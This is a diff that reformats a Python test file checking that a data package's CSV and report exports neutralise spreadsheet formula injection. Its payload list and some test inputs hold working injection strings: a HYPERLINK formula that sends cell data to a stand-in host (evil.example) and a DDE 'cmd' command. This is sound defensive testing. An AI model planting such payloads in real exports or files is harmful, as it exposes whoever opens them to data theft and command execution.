@@ -25,14 +25,32 @@ from istvhub.hotblocks.sample import write_mini_gazetteer
 sys.path.insert(0, str(Path(__file__).resolve().parent))
 from test_hotblocks_cli import fill_store  # noqa: E402
 
-PAYLOADS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3",
-            "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1")
+PAYLOADS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+)
 FEEDS = Path(__file__).resolve().parents[1] / "sample_feeds"
 
 #: every column a published layer may carry: counts, ranks, names of places, never a record
 ALLOWED = {
-    "blocks": {"block_id", "name", "borough", "length_m", "count", "rate_per_100m", "rank",
-               "share", "suppressed", "hex_id", "geometry"},
+    "blocks": {
+        "block_id",
+        "name",
+        "borough",
+        "length_m",
+        "count",
+        "rate_per_100m",
+        "rank",
+        "share",
+        "suppressed",
+        "hex_id",
+        "geometry",
+    },
     "hexes": {"hex_id", "h3_res", "count", "rank", "share", "suppressed", "geometry"},
     "lsoas": {"lsoa_code", "lsoa_name", "count", "rank", "share", "suppressed", "geometry"},
     "summary": {"section", "key", "value"},
@@ -41,6 +59,7 @@ ALLOWED = {
 
 
 # --------------------------------------------------------------------------- the neutraliser
+
 
 @pytest.mark.parametrize("text", PAYLOADS)
 def test_payloads_get_a_leading_quote(text):
@@ -60,8 +79,14 @@ def test_neutralised_text_never_starts_a_formula_and_keeps_the_text(text):
 
 
 def test_frame_numbers_untouched_text_neutralised():
-    df = pd.DataFrame({"lon": [-0.12, 0.1], "name": ["-2+3", "Oxford Street"],
-                       "n": pd.array([-1, 2], dtype="Int64"), "obj": [None, "@x"]})
+    df = pd.DataFrame(
+        {
+            "lon": [-0.12, 0.1],
+            "name": ["-2+3", "Oxford Street"],
+            "n": pd.array([-1, 2], dtype="Int64"),
+            "obj": [None, "@x"],
+        }
+    )
     out = neutralise_frame(df)
     assert out["lon"].tolist() == [-0.12, 0.1] and out["n"].tolist() == [-1, 2]
     assert out["name"].tolist() == ["'-2+3", "Oxford Street"]
@@ -84,6 +109,7 @@ def _assert_csv_safe(text: str, where: str) -> list[list[str]]:
 
 # --------------------------------------------------------------------------- hot blocks
 
+
 @pytest.fixture
 def poisoned_home(home, sources_dir):
     """The mini gazetteer with every street name replaced by a formula payload (+ its name)."""
@@ -97,8 +123,9 @@ def poisoned_home(home, sources_dir):
 
 
 @pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
-def test_hotblocks_exports_neutralised_and_aggregate_only(db_url, poisoned_home, sources_dir,
-                                                          tmp_path):
+def test_hotblocks_exports_neutralised_and_aggregate_only(
+    db_url, poisoned_home, sources_dir, tmp_path
+):
     fill_store(db_url, sources_dir)
     base = ["hotblocks", "--from", "2024-01", "--to", "2024-02", "--db", db_url]
     for fmt in ("csv", "geojson", "gpkg"):
@@ -133,6 +160,7 @@ def test_hotblocks_exports_neutralised_and_aggregate_only(db_url, poisoned_home,
 
 # --------------------------------------------------------------------------- compliance
 
+
 @pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
 def test_compliance_csv_neutralises_department_names(db_url, sources_dir, home):
     from istvhub.compliance.commands import build_report
@@ -143,8 +171,11 @@ def test_compliance_csv_neutralises_department_names(db_url, sources_dir, home):
     fill_store(db_url, sources_dir, n=200)
     store = open_store(db_url)
     with store.engine.begin() as conn:
-        conn.execute(sa.update(departments).where(departments.c.ods_code == "RJ122")
-                     .values(name=PAYLOADS[0], borough=PAYLOADS[1]))
+        conn.execute(
+            sa.update(departments)
+            .where(departments.c.ods_code == "RJ122")
+            .values(name=PAYLOADS[0], borough=PAYLOADS[1])
+        )
     store.dispose()
     text = render(build_report(db_url, start="2024-01", end="2024-02"), "csv")
     rows = _assert_csv_safe(text, "compliance csv")
@@ -153,6 +184,7 @@ def test_compliance_csv_neutralises_department_names(db_url, sources_dir, home):
 
 
 # --------------------------------------------------------------------------- ingest reports
+
 
 def test_ingest_cli_report_neutralises_file_names(db_url, home, tmp_path):
     """A file named like a formula: the row-level report's file column is neutralised."""
@@ -170,8 +202,7 @@ def test_ingest_cli_report_neutralises_file_names(db_url, home, tmp_path):
         cli.main()
 
     old = sys.argv
-    sys.argv = ["istvhub", "ingest", "--db", db_url, "--no-geocode", "--report", str(rep),
-                str(p)]
+    sys.argv = ["istvhub", "ingest", "--db", db_url, "--no-geocode", "--report", str(rep), str(p)]
     try:
         res = ClickRunner().invoke(cmd, [], catch_exceptions=False)
     finally:
@@ -198,8 +229,9 @@ def test_api_report_csv_neutralises_file_names(db_url, tmp_path):
     data = (FEEDS / "RJ122" / "RJ122_2025-07.csv").read_bytes()
     with TestClient(create_app(s)) as client:
         h = {"Authorization": f"Bearer {tok}"}
-        r = client.post("/submissions", headers=h,
-                        files={"file": ("-cmd=RJ122_2025-07.csv", data, "text/csv")})
+        r = client.post(
+            "/submissions", headers=h, files={"file": ("-cmd=RJ122_2025-07.csv", data, "text/csv")}
+        )
         assert r.status_code == 201, r.text
         sid = r.json()["submission_id"]
         r = client.get(f"/submissions/{sid}/report", params={"format": "csv"}, headers=h)
@@ -211,13 +243,26 @@ def test_api_report_csv_neutralises_file_names(db_url, tmp_path):
 
 # --------------------------------------------------------------------------- geocode CLI
 
+
 def test_geocode_cli_output_neutralised(gazetteer_home, tmp_path):
     inp = tmp_path / "in.csv"
     texts = [*PAYLOADS, "o/s 10 Downing Street SW1A 2AA", "@ home"]
     pd.DataFrame({"id": range(len(texts)), "=evil()": "x", "loc": texts}).to_csv(inp, index=False)
     out = tmp_path / "out.csv"
-    res = CliRunner().invoke(app, ["geocode", "file", str(inp), "--column", "loc",
-                                   "--output", str(out), "--home", str(gazetteer_home)])
+    res = CliRunner().invoke(
+        app,
+        [
+            "geocode",
+            "file",
+            str(inp),
+            "--column",
+            "loc",
+            "--output",
+            str(out),
+            "--home",
+            str(gazetteer_home),
+        ],
+    )
     assert res.exit_code == 0, (res.output, res.exception)
     rows = _assert_csv_safe(out.read_text(encoding="utf-8"), "geocode output")
     header = rows[0]
@@ -229,13 +274,20 @@ def test_geocode_cli_output_neutralised(gazetteer_home, tmp_path):
 
 # --------------------------------------------------------------------------- feedback + guard
 
+
 def test_feedback_csv_neutralises_free_text():
     from istvhub.feedback.core import FeedbackSheet
     from istvhub.feedback.render import to_csv
 
-    texts = pd.DataFrame({"text": [*PAYLOADS, "x\r=cmd|' /C calc'!A0", "o/s tesco"],
-                          "count": range(len(PAYLOADS) + 2), "status": "unmatched",
-                          "problem": "not found", "guidance": "name the street"})
+    texts = pd.DataFrame(
+        {
+            "text": [*PAYLOADS, "x\r=cmd|' /C calc'!A0", "o/s tesco"],
+            "count": range(len(PAYLOADS) + 2),
+            "status": "unmatched",
+            "problem": "not found",
+            "guidance": "name the street",
+        }
+    )
     sheet = FeedbackSheet("RJ122", "St Thomas' Hospital", "2025-06", {"records": 9}, texts)
     rows = _assert_csv_safe(to_csv(sheet), "feedback csv")
     items = [r[3] for r in rows if r[2] == "text"]
@@ -255,7 +307,7 @@ def test_every_csv_writer_in_the_package_neutralises():
         lines = py.read_text(encoding="utf-8").splitlines()
         for i, line in enumerate(lines):
             if any(w in line for w in WRITERS):
-                near = "\n".join(lines[max(0, i - 12): i + 12])
+                near = "\n".join(lines[max(0, i - 12) : i + 12])
                 if "neutralis" not in near and "_cell(" not in near and "_csv_frame(" not in line:
                     missing.append(f"{py.relative_to(src)}:{i + 1}")
     assert not missing, missing
